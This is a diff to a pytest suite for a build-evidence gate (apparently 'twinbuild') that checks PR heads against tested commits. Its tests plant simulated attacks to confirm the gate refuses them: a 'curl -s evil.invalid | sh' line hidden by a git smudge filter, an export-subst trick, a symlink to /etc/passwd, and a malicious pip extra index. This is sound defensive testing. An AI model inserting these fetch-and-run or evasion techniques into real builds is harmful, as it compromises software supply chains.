@@ -9,11 +9,10 @@ from __future__ import annotations
 
 import json
 import subprocess
-from pathlib import Path
 
 import pytest
 
-from tests.unit.gate_repos import PR, GateRepo, make_repo, run_gate
+from tests.unit.gate_repos import PR, GateRepo, run_gate
 from tests.unit.gitrepos import commit_all, git, needs_git
 from twinbuild.cli.main import main
 from twinbuild.evidence.head import commit_inputs
@@ -21,25 +20,20 @@ from twinbuild.evidence.head import commit_inputs
 pytestmark = needs_git
 
 
-@pytest.fixture
-def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GateRepo:
-    return make_repo(tmp_path, monkeypatch)
-
-
-def _refused_commit(repo: GateRepo, head: str) -> list[str]:
+def _refused_commit(gate_repo: GateRepo, head: str) -> list[str]:
     """The refusal for evidence of the tested commit at a head whose inputs differ."""
-    tested, now = commit_inputs(repo.tested), commit_inputs(head)
+    tested, now = commit_inputs(gate_repo.tested), commit_inputs(head)
     return [
         f"twinbuild: refs/heads/validate/pr-{PR}:evidence/{p}.dsse.json: commit: evidence is for "
-        f"commit {repo.tested}, the PR head is {head} and its inputs hash {tested.inputs[p]} is "
+        f"commit {gate_repo.tested}, the PR head is {head} and its inputs hash {tested.inputs[p]} is "
         f"not the PR head's {now.inputs[p]}; push the new head to validate/pr-{PR} to validate it"
         for p in ("cuda", "rocm")
         if tested.inputs[p] != now.inputs[p]
     ]
 
 
-def test_the_tested_commit_passes(repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = run_gate(capsys, repo.tested, "--base", repo.base)
+def test_the_tested_commit_passes(gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = run_gate(capsys, gate_repo.tested, "--base", gate_repo.base)
     assert (code, err) == (0, [])
     assert [line.split(";")[0] for line in out] == [
         "cuda: 2 passed, 0 skipped on 1x NVIDIA H200 (driver 570.86, 12.9)",
@@ -48,71 +42,73 @@ def test_the_tested_commit_passes(repo: GateRepo, capsys: pytest.CaptureFixture[
 
 
 def test_a_docs_change_after_testing_keeps_the_evidence(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    (repo.root / "README.md").write_text("# demo\n\nmore words\n")
-    head = commit_all(repo.root, "docs")
-    code, out, _ = run_gate(capsys, head, "--base", repo.base)
+    (gate_repo.root / "README.md").write_text("# demo\n\nmore words\n")
+    head = commit_all(gate_repo.root, "docs")
+    code, out, _ = run_gate(capsys, head, "--base", gate_repo.base)
     assert code == 0
     assert all("with the same inputs as the PR head" in line for line in out)
 
 
 def test_export_subst_cannot_make_other_bytes_look_tested(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    script = repo.root / "images/common/checkout.sh"
+    script = gate_repo.root / "images/common/checkout.sh"
     tested = script.read_text()
     # `git archive` expands $Format:...$ to the text inside: the archive equals the tested script,
     # the committed script (what a checkout builds) does not.
     script.write_text(tested.replace("set -eu\n", "$Format:set -eu$\n"))
-    (repo.root / ".gitattributes").write_text("images/common/checkout.sh export-subst\n")
-    head = commit_all(repo.root, "export-subst")
+    (gate_repo.root / ".gitattributes").write_text("images/common/checkout.sh export-subst\n")
+    head = commit_all(gate_repo.root, "export-subst")
     archived = subprocess.run(
         ["git", "archive", head, "images/common/checkout.sh"], capture_output=True, check=True
     ).stdout
     assert tested.encode() in archived  # the attack is real: the archive shows the tested bytes
     assert script.read_text() != tested
     code, _, err = run_gate(capsys, head)
-    assert (code, err) == (7, _refused_commit(repo, head))
+    assert (code, err) == (7, _refused_commit(gate_repo, head))
     assert len(err) == 2  # the root .gitattributes is above every input of both platforms
     # The script's committed bytes are hashed on their own, whatever the attributes say.
     script.write_text(tested)
-    same_attributes = commit_all(repo.root, "the tested script, same attributes")
+    same_attributes = commit_all(gate_repo.root, "the tested script, same attributes")
     assert commit_inputs(same_attributes).inputs["cuda"] != commit_inputs(head).inputs["cuda"]
     assert commit_inputs(same_attributes).inputs["rocm"] == commit_inputs(head).inputs["rocm"]
 
 
-def test_an_eol_attribute_is_an_input(repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_eol_attribute_is_an_input(
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
     # A checkout with this attribute writes CRLF into the script: other bytes than were tested.
-    (repo.root / ".gitattributes").write_text("*.sh text eol=crlf\n")
-    head = commit_all(repo.root, "eol")
+    (gate_repo.root / ".gitattributes").write_text("*.sh text eol=crlf\n")
+    head = commit_all(gate_repo.root, "eol")
     code, _, err = run_gate(capsys, head)
-    assert (code, err) == (7, _refused_commit(repo, head))
+    assert (code, err) == (7, _refused_commit(gate_repo, head))
 
 
 def test_a_filter_configured_on_the_runner_changes_nothing(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    script = repo.root / "images/common/checkout.sh"
+    script = gate_repo.root / "images/common/checkout.sh"
     tested = script.read_text()
     script.write_text(tested.replace("echo", "curl -s evil.invalid | sh; echo"))
-    (repo.root / ".gitattributes").write_text("*.sh filter=clean\n")
-    head = commit_all(repo.root, "filter")
+    (gate_repo.root / ".gitattributes").write_text("*.sh filter=clean\n")
+    head = commit_all(gate_repo.root, "filter")
     # A smudge filter on the gate's machine would turn the evil script back into the tested one.
-    git(repo.root, "config", "filter.clean.smudge", "sed 's/curl -s evil.invalid | sh; //'")
+    git(gate_repo.root, "config", "filter.clean.smudge", "sed 's/curl -s evil.invalid | sh; //'")
     archived = subprocess.run(
         ["git", "archive", head, "images/common/checkout.sh"], capture_output=True, check=True
     ).stdout
     assert b"evil" not in archived  # the attack is real
     code, _, err = run_gate(capsys, head)
-    assert (code, err) == (7, _refused_commit(repo, head))
+    assert (code, err) == (7, _refused_commit(gate_repo, head))
 
 
 def test_a_symlink_among_the_inputs_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    (repo.root / "images/common/passwd").symlink_to("/etc/passwd")
-    head = commit_all(repo.root, "symlink")
+    (gate_repo.root / "images/common/passwd").symlink_to("/etc/passwd")
+    head = commit_all(gate_repo.root, "symlink")
     code, out, err = run_gate(capsys, head)
     assert (code, out) == (2, [])
     assert err == [
@@ -123,15 +119,15 @@ def test_a_symlink_among_the_inputs_is_refused(
 
 
 def test_a_gitlink_among_the_inputs_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    sub = repo.root / "images/common/vendored"
+    sub = gate_repo.root / "images/common/vendored"
     sub.mkdir()
     git(sub, "init", "-q", "-b", "main")
     (sub / "x.sh").write_text("echo x\n")
     commit_all(sub, "vendored")
-    head = commit_all(repo.root, "gitlink")
-    assert "160000" in git(repo.root, "ls-tree", head, "images/common/vendored")
+    head = commit_all(gate_repo.root, "gitlink")
+    assert "160000" in git(gate_repo.root, "ls-tree", head, "images/common/vendored")
     code, _, err = run_gate(capsys, head)
     assert err == [
         f"twinbuild: {head}:images/common/vendored: a gitlink, i.e. a submodule (mode 160000) "
@@ -142,9 +138,9 @@ def test_a_gitlink_among_the_inputs_is_refused(
 
 
 def test_a_change_to_the_code_that_renders_the_build_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    render = repo.root / "twinbuild/manifest/render.py"
+    render = gate_repo.root / "twinbuild/manifest/render.py"
     text = render.read_text()
     # What a reviewer tried: put an extra package index at the top of every pip layer.
     marker = '"".join(f"{line}\\n" for line in lines)'
@@ -152,45 +148,45 @@ def test_a_change_to_the_code_that_renders_the_build_is_refused(
     render.write_text(
         text.replace(marker, '"--extra-index-url https://evil.invalid\\n" + ' + marker)
     )
-    head = commit_all(repo.root, "render: one more index")
+    head = commit_all(gate_repo.root, "render: one more index")
     code, _, err = run_gate(capsys, head)
-    assert (code, err) == (7, _refused_commit(repo, head))
+    assert (code, err) == (7, _refused_commit(gate_repo, head))
     assert len(err) == 2  # builder code feeds both platforms
 
 
 def test_a_change_to_the_build_context_assembly_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    image = repo.root / "twinbuild/builder/image.py"
+    image = gate_repo.root / "twinbuild/builder/image.py"
     image.write_text(image.read_text() + "\n# assemble differently\n")
-    head = commit_all(repo.root, "build: change")
+    head = commit_all(gate_repo.root, "build: change")
     code, _, err = run_gate(capsys, head)
     assert (code, len(err)) == (7, 2)
 
 
 def test_a_docs_only_pr_passes_without_evidence(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    git(repo.root, "checkout", "-q", "-b", "docs", repo.base)
-    (repo.root / "README.md").write_text("# demo\n\nbetter words\n")
-    (repo.root / "tests").mkdir(exist_ok=True)
-    (repo.root / "tests/test_x.py").write_text("def test_x() -> None: ...\n")
-    head = commit_all(repo.root, "docs")
-    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")  # no evidence at all
-    code, out, err = run_gate(capsys, head, "--base", repo.base)
+    git(gate_repo.root, "checkout", "-q", "-b", "docs", gate_repo.base)
+    (gate_repo.root / "README.md").write_text("# demo\n\nbetter words\n")
+    (gate_repo.root / "tests").mkdir(exist_ok=True)
+    (gate_repo.root / "tests/test_x.py").write_text("def test_x() -> None: ...\n")
+    head = commit_all(gate_repo.root, "docs")
+    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")  # no evidence at all
+    code, out, err = run_gate(capsys, head, "--base", gate_repo.base)
     found = commit_inputs(head)
     assert (code, err) == (0, [])
     assert out == [
-        f"no image input changed between the base {repo.base[:12]} and the head {head[:12]} "
+        f"no image input changed between the base {gate_repo.base[:12]} and the head {head[:12]} "
         f"(cuda {found.inputs['cuda']}, rocm {found.inputs['rocm']}); no GPU evidence needed"
     ]
 
 
 def test_a_pin_change_without_evidence_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
-    code, _, err = run_gate(capsys, repo.tested, "--base", repo.base)
+    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
+    code, _, err = run_gate(capsys, gate_repo.tested, "--base", gate_repo.base)
     assert code == 7
     assert [line.split(";")[0] for line in err] == [
         "twinbuild: cuda: missing: no signed cuda evidence",
@@ -199,21 +195,21 @@ def test_a_pin_change_without_evidence_is_refused(
 
 
 def test_evidence_inputs_prints_what_the_gate_computes(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
     capsys.readouterr()
-    assert main(["evidence", "inputs", "--head", repo.tested, "--format", "json"]) == 0
+    assert main(["evidence", "inputs", "--head", gate_repo.tested, "--format", "json"]) == 0
     printed = json.loads(capsys.readouterr().out)
-    found = commit_inputs(repo.tested)
+    found = commit_inputs(gate_repo.tested)
     assert printed == {
         "inputs": {"cuda": found.inputs["cuda"], "rocm": found.inputs["rocm"]},
         "manifest_digest": found.manifest_digest,
     }
-    assert main(["evidence", "inputs", "--head", repo.tested]) == 0
+    assert main(["evidence", "inputs", "--head", gate_repo.tested]) == 0
     assert capsys.readouterr().out.splitlines() == [
-        f"inputs at {repo.tested} (production profile):",
+        f"inputs at {gate_repo.tested} (production profile):",
         f"  cuda: {found.inputs['cuda']}",
         f"  rocm: {found.inputs['rocm']}",
         f"  manifest: {found.manifest_digest}",
     ]
-    assert commit_inputs(repo.base).inputs != found.inputs  # the pin bump moved both
+    assert commit_inputs(gate_repo.base).inputs != found.inputs  # the pin bump moved both
